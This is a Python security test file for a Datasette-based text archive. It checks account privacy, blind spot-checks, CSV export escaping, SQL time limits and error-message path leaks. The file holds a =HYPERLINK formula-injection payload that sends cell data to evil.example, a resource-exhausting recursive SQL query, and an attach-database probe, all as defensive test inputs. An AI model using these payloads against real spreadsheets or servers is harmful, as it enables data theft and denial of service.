"""What the published database, the exports and arbitrary SQL give away (issue 12 items 9–13)."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import threading
import time
import urllib.parse
from pathlib import Path

import yaml

from minqing.cmd_serve import make_datasette
from minqing.paths import datasette_dir
from tests.conftest import run_cli
from tests.security.conftest import TOKEN_RE, USERS, Client, first_line

SLOW_SQL = (
    "with recursive c(x) as (select 1 union all select x + 1 from c where x < 300000000)"
    " select count(*) from c"
)


# -- item 9: accounts out of the published database --------------------------------------------


def published_users(root: Path) -> list:
    """The rows of a ``users`` table in archive.db ([] when there is none)."""
    conn = sqlite3.connect(root / "archive.db")
    try:
        if not conn.execute("select 1 from sqlite_master where name = 'users'").fetchone():
            return []
        return conn.execute("select * from users").fetchall()
    finally:
        conn.close()


def test_item09_accounts_are_not_in_the_published_database(users_server) -> None:
    base, root = users_server
    client = Client(base)
    assert client.login("insp", USERS["insp"][1])[0] == 302
    status, _, body = client.request(
        "/archive.json?_shape=array&sql=" + urllib.parse.quote("select * from users")
    )
    assert status != 200 and "insp" not in body and "reviewer" not in body
    # the archive file itself holds no account and no hash; the accounts file is private
    raw = (root / "archive.db").read_bytes()
    assert b"scrypt$" not in raw and b"inspect-pass" not in raw
    assert published_users(root) == []
    assert (root / "accounts.db").stat().st_mode & 0o077 == 0
    assert (root / ".web-secret").stat().st_mode & 0o077 == 0
    # nor can SQL open the accounts database
    status, _, body = client.request(
        "/archive.json?sql=" + urllib.parse.quote(f"attach database '{root / 'accounts.db'}' as a")
    )
    assert status != 200


def test_item09_users_of_an_older_archive_move_out_on_the_first_write(
    local_archive: Path, tmp_path: Path
) -> None:
    from minqing.web import access

    # an archive made before accounts.db: a users table inside archive.db
    conn = sqlite3.connect(local_archive / "archive.db")
    conn.execute(
        "create table if not exists users (name text primary key, role text, password_hash text,"
        " created_at text, changed_at text)"
    )
    conn.execute(
        "insert into users values ('old', 'inspector', ?, 'c', 'd')",
        [access.hash_password("old-password-1")],
    )
    conn.commit()
    conn.close()
    assert access.authenticate(local_archive, "old", "old-password-1") is not None
    pw = tmp_path / "pw"
    pw.write_text("new-password-1\n", encoding="utf-8")
    run_cli("users", "add", "new", "--password-file", str(pw), "--archive", str(local_archive))
    listed = run_cli("users", "list", "--archive", str(local_archive)).stdout
    assert [line.split("\t")[0] for line in listed.splitlines()] == ["new", "old"]
    assert published_users(local_archive) == []
    assert b"scrypt$" not in (local_archive / "archive.db").read_bytes()  # not even freed pages
    assert access.authenticate(local_archive, "old", "old-password-1") is not None


# -- item 10: blind spot-checks ------------------------------------------------------------


def test_item10_reviewer_cannot_read_the_engine_text_of_a_blind_sample(users_server) -> None:
    base, root = users_server
    run_cli(
        "spotcheck", "new", "--archive", str(root), "--size", "5", "--seed", "1", "--mode", "blind"
    )
    conn = sqlite3.connect(root / "archive.db")
    n = conn.execute("select count(machine_text) from spot_items").fetchone()[0]
    conn.close()
    assert n >= 5
    client = Client(base)
    assert client.login("rev", USERS["rev"][1])[0] == 302
    status, _, body = client.request("/archive/spot_items.json?_shape=array&_size=max")
    assert status == 200
    rows = json.loads(body)
    assert len(rows) == n and all(r["machine_text"] is None for r in rows), rows
    assert all(r["shown_text"] is None for r in rows)
    status, _, body = client.request(
        "/archive.json?_shape=array&sql="
        + urllib.parse.quote("select machine_text, shown_text from spot_items")
    )
    assert status == 200
    assert all(v is None for r in json.loads(body) for v in r.values())
    # the spot-check page itself still works (it reads the sample without the filter)
    status, _, html = client.request("/-/spotcheck/1")
    assert status == 200 and "抽检样本" in html


# -- item 11: spreadsheet formulas ---------------------------------------------------------


def test_item11_corrections_export_escapes_formulas_and_import_undoes_it(
    local_archive: Path, tmp_path: Path
) -> None:
    line_id, _, _, _ = first_line(local_archive)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    conn = sqlite3.connect(local_archive / "archive.db")
    conn.execute("update lines set text = ? where line_id = ?", [evil, line_id])
    conn.commit()
    conn.close()
    out = tmp_path / "fix.csv"
    run_cli(
        "corrections", "export", "--archive", str(local_archive), "--what", "lines", "-o", str(out)
    )
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(dangerous), row
    row = next(r for r in rows if r["id"] == line_id)
    assert row["current"] == "'" + evil
    # the file round-trips: its current value is recognised on import
    row["new"] = "改正后的文字"
    with out.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerow(row)
    run_cli("corrections", "import", str(out), "--archive", str(local_archive))
    conn = sqlite3.connect(local_archive / "archive.db")
    assert conn.execute("select text from lines where line_id = ?", [line_id]).fetchone()[0] == (
        "改正后的文字"
    )
    conn.close()


# -- item 12: bounded SQL ------------------------------------------------------------------


def test_item12_slow_sql_is_cut_off_and_does_not_starve_the_pages(local_server) -> None:
    base, root = local_server
    client = Client(base)
    status, _, body = client.request("/-/settings.json")
    settings = json.loads(body)
    assert settings["sql_time_limit_ms"] <= 1000 and settings["num_sql_threads"] >= 2
    t0 = time.monotonic()
    status, _, body = client.request("/archive.json?sql=" + urllib.parse.quote(SLOW_SQL))
    took = time.monotonic() - t0
    assert status == 400 and "too long" in body, (status, body[:200])
    assert took < 2.5, took
    # six slow queries at once: an entry page still answers within a few seconds
    threads = [
        threading.Thread(
            target=Client(base).request, args=("/archive.json?sql=" + urllib.parse.quote(SLOW_SQL),)
        )
        for _ in range(6)
    ]
    for t in threads:
        t.start()
    time.sleep(0.3)
    t0 = time.monotonic()
    entry = (
        sqlite3.connect(root / "archive.db").execute("select entry_id from entries").fetchone()[0]
    )
    status, _, _ = client.request("/-/entry/" + urllib.parse.quote(entry))
    took = time.monotonic() - t0
    for t in threads:
        t.join()
    assert status == 200
    assert took < 5.0, took


def _canned_queries() -> dict[str, str]:
    meta = yaml.safe_load((datasette_dir() / "metadata.yaml").read_text(encoding="utf-8"))
    return {k: v["sql"] for k, v in meta["databases"]["archive"]["queries"].items()}


async def test_item12_every_canned_query_runs_well_inside_the_limit(local_archive: Path) -> None:
    ds = make_datasette(local_archive)
    limit = ds.setting("sql_time_limit_ms")
    assert limit <= 1000
    queries = _canned_queries()
    assert len(queries) >= 5
    for name, sql in queries.items():
        params = dict.fromkeys(sorted(set(re.findall(r":(\w+)", sql))), "")
        path = f"/archive/{urllib.parse.quote(name)}.json?" + urllib.parse.urlencode(params)
        t0 = time.monotonic()
        resp = await ds.client.get(path)
        took_ms = (time.monotonic() - t0) * 1000
        assert resp.status_code == 200, (name, resp.text[:300])
        assert resp.json().get("ok", True) is not False, name
        assert took_ms < limit / 2, (name, took_ms)


# -- item 13: the 409 message ----------------------------------------------------------------


async def test_item13_stale_edit_message_does_not_show_server_paths(local_archive: Path) -> None:
    ds = make_datasette(local_archive)
    line_id, text, book, page_no = first_line(local_archive)
    page = await ds.client.get(f"/-/review/page/{urllib.parse.quote(book, safe='')}/{page_no}")
    assert page.status_code == 200
    token = TOKEN_RE.search(page.text).group(1)
    resp = await ds.client.post(
        "/-/review/save",
        data={
            "csrftoken": token,
            "action": "line",
            "line_id": line_id,
            "text": "新的文字",
            "expected": text + "（别人改过）",
        },
        cookies=dict(page.cookies),
    )
    assert resp.status_code == 409, resp.text[:300]
    assert "别人已先修改" in resp.text
    assert str(local_archive) not in resp.text and "archive.db" not in resp.text
    assert "/tmp" not in resp.text


def test_item13_served_409_has_no_path_either(local_server) -> None:
    base, root = local_server
    line_id, _, book, page_no = first_line(root)
    client = Client(base)
    token = client.token(f"/-/review/page/{urllib.parse.quote(book, safe='')}/{page_no}")
    status, _, body = client.request(
        "/-/review/save",
        {"csrftoken": token, "action": "line", "line_id": line_id, "text": "x", "expected": "y"},
    )
    assert status == 409 and str(root) not in body and "archive.db" not in body
